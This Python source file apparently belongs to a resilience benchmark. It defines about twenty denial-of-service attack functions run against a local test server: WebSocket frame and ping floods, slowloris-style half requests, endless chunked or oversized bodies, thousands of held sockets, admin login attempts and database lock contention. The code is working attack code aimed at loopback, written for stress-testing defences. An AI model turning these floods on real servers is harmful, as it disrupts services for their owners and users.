"""What somebody can do who wants to stop a server: each function does one thing at full speed until *until*.

They run in a process of their own, against a server on this machine (loopback) that the benchmark has started.
Each is bounded in time and in the number of its connections. *token* is an ordinary user's.
"""

import base64
import json
import os
import selectors
import socket
import sqlite3
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from pathlib import Path
from typing import NamedTuple


class Target(NamedTuple):
    port: int
    token: str
    data: Path  # the server's DATA_DIR
    until: float  # of time.monotonic()

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=5)


def nothing(target: Target) -> None:
    """For comparison: what the machine makes of it without an attacker."""
    _wait(target)


def frames(target: Target) -> None:
    """No token; endless empty fragments, again and again."""
    while target.goes_on:
        with suppress(OSError), closing(_socket(target, "")) as opened:
            opened.sendall(b"\x01\x81\0\0\0\0{")
            while target.goes_on:
                opened.sendall(b"\0\x80\0\0\0\0" * 20_000)


def fragments(target: Target) -> None:
    """Signed in: eight sockets with a message that never ends."""
    _each(target, 8, b"\0\x80\0\0\0\0" * 20_000, first=b"\x01\x81\0\0\0\0{")


def pings(target: Target) -> None:
    _each(target, 20, _text({"type": "ping"}) * 500)


def slow_pings(target: Target) -> None:
    """50 sockets that stay just inside the budget of frames, and are opened anew when they are closed."""
    _each(target, 50, _text({"type": "ping"}), pause=0.12)


def control_pings(target: Target) -> None:
    """WebSocket pings of 125 bytes, the pongs never read."""
    _each(target, 10, (b"\x89\xfd\0\0\0\0" + b"x" * 125) * 500, reads=False)


def resumes(target: Target) -> None:
    """Replays of the last 3,000 events, again and again, on 20 sockets."""
    with closing(sqlite3.connect(target.data / "db.sqlite3")) as database:
        [[epoch, head]] = database.execute("SELECT epoch, seq FROM api_livefeed").fetchall()
    epoch = f"{epoch[:8]}-{epoch[8:12]}-{epoch[12:16]}-{epoch[16:20]}-{epoch[20:]}"
    _each(target, 20, _text({"type": "resume", "epoch": epoch, "seq": max(0, head - 3000)}))


def presence(target: Target) -> None:
    flips = b"".join(_text({"type": "presence", "product": n, "mode": "edit"}) for n in range(1, 100))
    _each(target, 20, flips)


def many_sockets(target: Target) -> None:
    """3,000 sockets of one user."""
    held = []
    for _ in range(3000):
        if not target.goes_on:
            break
        with suppress(OSError):
            held.append(_socket(target, target.token))
    _wait(target)


def pipeline(target: Target) -> None:
    """GETs without end whose answers are not read."""
    request = b"GET /api/config/ HTTP/1.1\r\nHost: localhost\r\n\r\n" * 2000
    _flood(target, 4, lambda: iter(lambda: request, None))


def headers(target: Target) -> None:
    """Header fields without end."""
    _flood(target, 6, lambda: _after(b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-Field: value\r\n" * 4000))


def header(target: Target) -> None:
    """One header field without end."""
    _flood(target, 6, lambda: _after(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ", b"x" * 65536))


def half_heads(target: Target) -> None:
    _hold(target, 1100, b"GET /api/config/ HTTP/1.1\r\nHost: localhost\r\nX-Half: ")


def half_bodies(target: Target) -> None:
    head = _post("/api/token/", "Content-Length: 1000000")
    _hold(target, 300, head + b"x" * 500_000)


def bad_handshakes(target: Target) -> None:
    """A line of 9 KB is more than the WebSocket parser takes."""
    _hold(target, 300, _handshake("")[:-2] + b"X-Long: " + b"x" * 9000 + b"\r\n\r\n")


def bodies(target: Target) -> None:
    """Bodies that are announced as 10 GB, or come in chunks without end."""
    announced = _post("/api/token/", "Content-Length: 10000000000")
    chunked = _post("/api/token/", "Transfer-Encoding: chunked")
    chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
    half = threading.Thread(target=_flood, args=(target, 2, lambda: _after(announced, b"x" * 65536)))
    half.start()
    _flood(target, 2, lambda: _after(chunked, chunk))
    half.join()


def tiny_chunks(target: Target) -> None:
    """A body in chunks of one byte."""
    head = _post("/api/token/", "Transfer-Encoding: chunked")
    _flood(target, 4, lambda: _after(head, b"1\r\nx\r\n" * 10_000))


def sign_ins(target: Target) -> None:
    """Wrong passwords for the admin, on 40 connections."""
    _repeat(target, 40, _form("/admin/login/", b"username=bench&password=wrong&csrfmiddlewaretoken=" + b"t" * 32))


def reads(target: Target) -> None:
    """An honest flood for comparison: 40 connections that fetch the list, signed in."""
    line = (
        f"GET /api/products/?limit=50 HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.token}\r\n\r\n"
    )
    _repeat(target, 40, line.encode())


def locked(target: Target) -> None:
    """Another process holds the database's lock, and eight writers wait."""
    with closing(sqlite3.connect(target.data / "db.sqlite3", isolation_level=None, timeout=20)) as database:
        database.execute("BEGIN IMMEDIATE")
        body = json.dumps({"name": "Waiting", "price": "1", "category": "home"}).encode()
        head = _post("/api/products/", f"Content-Length: {len(body)}", target.token)
        _repeat(target, 8, head + body)
        database.execute("ROLLBACK")


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        *(nothing, frames, fragments, pings, slow_pings, control_pings, resumes, presence, many_sockets),
        *(pipeline, headers, header, half_heads, half_bodies, bad_handshakes, bodies, tiny_chunks),
        *(sign_ins, reads, locked),
    )
}


# --- How ------------------------------------------------------------------------------------------------------


def _handshake(token: str) -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET /ws/products/?token={token} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n"
    ).encode()


def _socket(target: Target, token: str) -> socket.socket:
    opened = target.connect()
    opened.sendall(_handshake(token))
    if not opened.recv(4096).startswith(b"HTTP/1.1 101"):
        opened.close()
        raise OSError("refused")
    return opened


def _text(frame: object) -> bytes:
    payload = json.dumps(frame).encode()
    size = len(payload)
    length = bytes([0x80 | size]) if size < 126 else bytes([0x80 | 126]) + struct.pack("!H", size)
    return b"\x81" + length + b"\0\0\0\0" + payload


def _post(path: str, more: str, token: str = "") -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json", more]
    if token:
        lines.append(f"Authorization: Bearer {token}")
    return "\r\n".join([*lines, "", ""]).encode()


def _form(path: str, body: bytes) -> bytes:
    head = (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Cookie: csrftoken={'t' * 32}\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def _after(head: bytes, rest: bytes) -> Iterator[bytes]:
    yield head
    while True:
        yield rest


def _each(
    target: Target, count: int, data: bytes, *, first: bytes = b"", reads: bool = True, pause: float = 0
) -> None:
    """*count* sockets, each on a thread, send *data* and read what comes; whoever is cut comes back at once."""

    def one() -> None:
        while target.goes_on:
            with suppress(OSError), closing(_socket(target, target.token)) as opened:
                opened.sendall(first)
                opened.settimeout(0.05 if reads and not pause else 1)
                while target.goes_on:
                    with suppress(TimeoutError):
                        opened.sendall(data)
                    if reads:
                        opened.setblocking(False)
                        with suppress(BlockingIOError):
                            while opened.recv(1 << 20):
                                pass
                        opened.settimeout(1)
                    time.sleep(pause)
            time.sleep(0.01)

    _on_threads(one, count)


def _flood(target: Target, count: int, parts: Callable[[], Iterator[bytes]]) -> None:
    """*count* connections send *parts* and read nothing; whoever is cut comes back at once."""

    def one() -> None:
        while target.goes_on:
            with suppress(OSError), closing(target.connect()) as opened:
                for part in parts():
                    if not target.goes_on:
                        return
                    opened.settimeout(max(0.1, target.until - time.monotonic()))
                    opened.sendall(part)
            time.sleep(0.01)

    _on_threads(one, count)


def _repeat(target: Target, count: int, request: bytes) -> None:
    """*count* connections send *request*, read an answer, and send it again."""

    def one() -> None:
        while target.goes_on:
            with suppress(OSError), closing(target.connect()) as opened:
                opened.settimeout(max(0.1, target.until - time.monotonic()))
                while target.goes_on:
                    opened.sendall(request)
                    if not opened.recv(1 << 20):
                        break
            time.sleep(0.01)

    _on_threads(one, count)


def _hold(target: Target, count: int, part: bytes) -> None:
    """*count* connections that send *part* and wait; whoever is cut comes back."""
    with selectors.DefaultSelector() as selector:
        held = 0
        while target.goes_on:
            while held < count and target.goes_on:
                try:
                    opened = target.connect()
                    opened.sendall(part)
                except OSError:
                    time.sleep(0.05)
                    break
                selector.register(opened, selectors.EVENT_READ)
                held += 1
            for key, _ in selector.select(0.1):
                opened = key.fileobj  # type: ignore[assignment]
                with suppress(OSError):
                    if opened.recv(65536):
                        continue
                selector.unregister(opened)
                opened.close()
                held -= 1


def _wait(target: Target) -> None:
    while target.goes_on:
        time.sleep(0.1)


def _on_threads(work: Callable[[], None], count: int) -> None:
    threads = [threading.Thread(target=work) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
